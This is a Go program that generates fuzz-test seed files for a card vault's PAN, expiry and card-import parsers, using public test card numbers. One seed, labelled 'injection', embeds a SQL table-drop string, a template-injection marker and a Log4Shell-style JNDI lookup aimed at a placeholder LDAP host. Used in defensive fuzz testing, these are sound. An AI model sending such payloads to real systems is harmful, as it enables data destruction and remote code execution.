//go:build ignore

// Command seedgen writes the seed corpora of cardvault's fuzz targets, in
// Go's <pkg>/testdata/fuzz/<FuzzName>/ layout, from the public test cards in
// testdata/cards.json and the Stripe forward body template. Run it from the
// repository root after changing either:
//
//	go run testdata/fuzz/seedgen.go .
package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
)

type doc struct {
	Cards []struct {
		Number string `json:"number"`
		Scheme string `json:"scheme"`
	} `json:"cards"`
	LuhnInvalid []string `json:"luhn_invalid"`
	BadLength   []string `json:"bad_length"`
}

func write(dir, name string, values ...string) {
	must(os.MkdirAll(dir, 0o755))
	must(os.WriteFile(filepath.Join(dir, name), []byte("go test fuzz v1\n"+strings.Join(values, "\n")+"\n"), 0o644))
}

func str(s string) string   { return "string(" + strconv.Quote(s) + ")" }
func bytes(s string) string { return "[]byte(" + strconv.Quote(s) + ")" }

func must(err error) {
	if err != nil {
		panic(err)
	}
}

func slug(s string) string { return strings.ToLower(strings.ReplaceAll(s, " ", "-")) }

func spaced(pan string) string {
	var parts []string
	for i := 0; i < len(pan); i += 4 {
		parts = append(parts, pan[i:min(i+4, len(pan))])
	}
	return strings.Join(parts, " ")
}

func main() {
	root := os.Args[1]
	b, err := os.ReadFile(filepath.Join(root, "testdata", "cards.json"))
	must(err)
	var d doc
	must(json.Unmarshal(b, &d))
	tmpl, err := os.ReadFile(filepath.Join(root, "testdata", "stripe", "forward_body_template.json"))
	must(err)
	pan := filepath.Join(root, "vault", "testdata", "fuzz", "FuzzParsePAN")
	cardDir := filepath.Join(root, "vault", "testdata", "fuzz", "FuzzParseCard")
	exp := filepath.Join(root, "vault", "testdata", "fuzz", "FuzzParseExpiry")
	body := filepath.Join(root, "httpapi", "testdata", "fuzz", "FuzzDecodeCDEImport")
	names := []string{"Jane Doe", "Zoë Ğüneş", "山田 太郎", "O'Brien-Smith, Jr.", ""}
	for i, c := range d.Cards {
		id := fmt.Sprintf("card-%02d-%s", i, slug(c.Scheme))
		cvc := "123"
		if c.Scheme == "American Express" {
			cvc = "1234"
		}
		name := names[i%len(names)]
		write(pan, id, str(c.Number))
		write(pan, id+"-spaced", str(spaced(c.Number)))
		write(cardDir, id, str(c.Number), str(fmt.Sprintf("%02d", i%12+1)), str(strconv.Itoa(2026+i%10)), str(cvc), str(name))
		var fwd map[string]map[string]string
		must(json.Unmarshal(tmpl, &fwd))
		fwd["metadata"]["business_key"] = fmt.Sprintf("pm_seed_%02d", i)
		fwd["card"]["number"] = c.Number
		fwd["card"]["exp_month"], fwd["card"]["exp_year"] = fmt.Sprintf("%02d", i%12+1), strconv.Itoa(2026+i%10)
		fwd["card"]["cvc"], fwd["card"]["name"] = cvc, name
		out, err := json.Marshal(fwd)
		must(err)
		write(body, id, bytes(string(out)))
		if i%3 == 0 { // a loose sender: numbers as JSON numbers
			loose := fmt.Sprintf(`{"metadata":{"business_key":"pm_loose_%02d","order":"A-%d"},"card":{"number":%s,"exp_month":%d,"exp_year":%d,"cvc":null,"name":null}}`,
				i, i, c.Number, i%12+1, 26+i%10)
			write(body, id+"-numbers", bytes(loose))
		}
	}
	for i, n := range d.LuhnInvalid {
		id := fmt.Sprintf("luhn-invalid-%02d", i)
		write(pan, id, str(n))
		write(cardDir, id, str(n), str("04"), str("2033"), str("123"), str("Jane Doe"))
		write(body, id, bytes(`{"card":{"number":"`+n+`","exp_month":"04","exp_year":"2033"}}`))
	}
	for i, n := range d.BadLength {
		id := fmt.Sprintf("bad-length-%02d", i)
		write(pan, id, str(n))
		write(body, id, bytes(`{"card":{"number":"`+n+`"}}`))
	}
	for _, e := range [][3]string{
		{"valid", "04", "2033"}, {"short", "4", "33"}, {"month-0", "0", "2033"}, {"month-13", "13", "2033"},
		{"year-1999", "04", "1999"}, {"year-2100", "04", "2100"}, {"year-3-digits", "04", "203"},
		{"signed", "+4", "-33"}, {"spaces", " 04 ", " 2033 "}, {"pan", d.Cards[0].Number, d.Cards[1].Number},
	} {
		write(exp, e[0], str(e[1]), str(e[2]))
	}
	p0 := d.Cards[0].Number
	for name, s := range map[string]string{
		"duplicate-number":   `{"card":{"number":"4000056655665556","number":"` + p0 + `"}}`,
		"case-folded":        `{"Card":{"Number":"` + p0 + `"}}`,
		"pan-field-name":     `{"` + p0 + `":1}`,
		"pan-in-name":        `{"card":{"number":"` + p0 + `","exp_month":"04","exp_year":"2033","name":"` + spaced(p0) + `"}}`,
		"pan-in-metadata":    `{"metadata":{"note":"` + p0 + `"},"card":{"number":"` + p0 + `"}}`,
		"pan-metadata-key":   `{"metadata":{"` + p0 + `":[1]},"card":{}}`,
		"deep":               `{"metadata":{"a":` + strings.Repeat("[", 33) + strings.Repeat("]", 33) + `},"card":{}}`,
		"long-array":         `{"card":{"number":[` + strings.TrimSuffix(strings.Repeat("1,", 1001), ",") + `]}}`,
		"injection":          `{"metadata":{"business_key":"'; DROP TABLE tokens;--","t":"{{.}}","j":"${jndi:ldap://x/a}"},"card":{"number":"` + p0 + `","exp_month":"04","exp_year":"2033"}}`,
		"invalid-utf8":       "{\"card\":{\"number\":\"" + p0 + "\",\"name\":\"\xc0\xaf\"}}",
		"escaped-digits-key": `{"\u0034242424242424242":1}`,
	} {
		write(body, name, bytes(s))
	}
}
